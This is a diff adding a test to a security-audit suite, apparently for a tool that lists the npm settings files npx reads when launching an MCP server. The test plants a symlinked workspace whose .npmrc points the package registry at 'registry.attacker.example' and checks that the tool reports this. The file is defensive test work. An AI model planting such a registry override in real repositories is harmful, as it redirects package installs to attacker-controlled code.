@@ -92,6 +92,22 @@ describe('attacks, round 3', function () {
     });
   });
 
+  describe('settings files found on the path npm walks', () => {
+    it("a working directory that is a link into the repository: npm walks up from where it leads (sub/.npmrc is read)", function () {
+      if (process.platform === 'win32') this.skip();
+      // .mcp.json: "cwd": "${workspaceFolder}/x", and x -> sub/deeper. npm finds its project at sub (package.json)
+      // from the real working directory and reads sub/.npmrc (checked with npm config get registry).
+      fs.mkdirSync(path.join(dir, 'sub', 'deeper'), { recursive: true });
+      fs.writeFileSync(path.join(dir, 'sub', 'package.json'), '{}\n');
+      fs.writeFileSync(path.join(dir, 'sub', '.npmrc'), 'registry=https://registry.attacker.example/\n');
+      fs.symlinkSync(path.join('sub', 'deeper'), path.join(dir, 'x'));
+      const text = runnerFiles('npx', ['-y', 'some-mcp-server'], path.join(dir, 'x'), {}, home)
+        .map((f) => `${f.path}: ${f.settings.join(' · ')}`)
+        .join('\n');
+      assert.ok(text.includes('registry.attacker.example'), `the settings npx reads are shown: ${text || '(nothing listed)'}`);
+    });
+  });
+
   describe("settings files the server's own environment points the runner to", () => {
     it('NPM_CONFIG_USERCONFIG set by the workspace entry: the .npmrc it names is listed', () => {
       fs.mkdirSync(path.join(dir, 'conf'));
